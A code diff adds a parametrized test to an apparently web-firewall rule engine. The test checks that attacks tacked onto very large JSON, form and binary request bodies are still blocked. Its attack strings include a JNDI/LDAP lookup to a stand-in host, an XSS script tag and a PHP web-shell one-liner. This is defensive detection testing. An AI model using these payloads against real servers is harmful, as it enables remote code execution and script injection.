@@ -186,3 +186,23 @@ def test_attack_at_the_end_of_a_large_body_is_found():
     assert len(f.body) > 1_000_000
     verdict = engine.evaluate(f)
     assert verdict.label == "block" and "xxe" in verdict.features
+
+
+LARGE_JSON = [{"id": i, "note": "fine text, nothing to see", "url": f"https://cdn.example/{i}.jpg"} for i in range(3000)]
+
+
+@pytest.mark.parametrize(
+    "ctype,benign,attack",
+    [
+        ("application/json", json.dumps(LARGE_JSON), json.dumps(LARGE_JSON + [{"q": "${jndi:ldap://e.example/a}"}])),
+        ("application/x-www-form-urlencoded", "a=" + "x+" * 50000, "a=" + "x+" * 50000 + "&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        ("application/octet-stream", "\x00\x01" * 40000, "\x00\x01" * 40000 + "<?php system($_GET['c']); ?>"),
+    ],
+)
+def test_large_bodies_are_scanned_whole(ctype, benign, attack):
+    engine = RuleEngine.load()
+    headers = {"Content-Type": ctype, "User-Agent": "t"}
+    bad, good = Features.build("POST", "/in", body=attack, headers=headers), Features.build("POST", "/in", body=benign, headers=headers)
+    assert len(good.body) > 65536
+    assert engine.evaluate(bad).label == "block", engine.explain(bad)
+    assert engine.evaluate(good).label != "block", engine.explain(good)
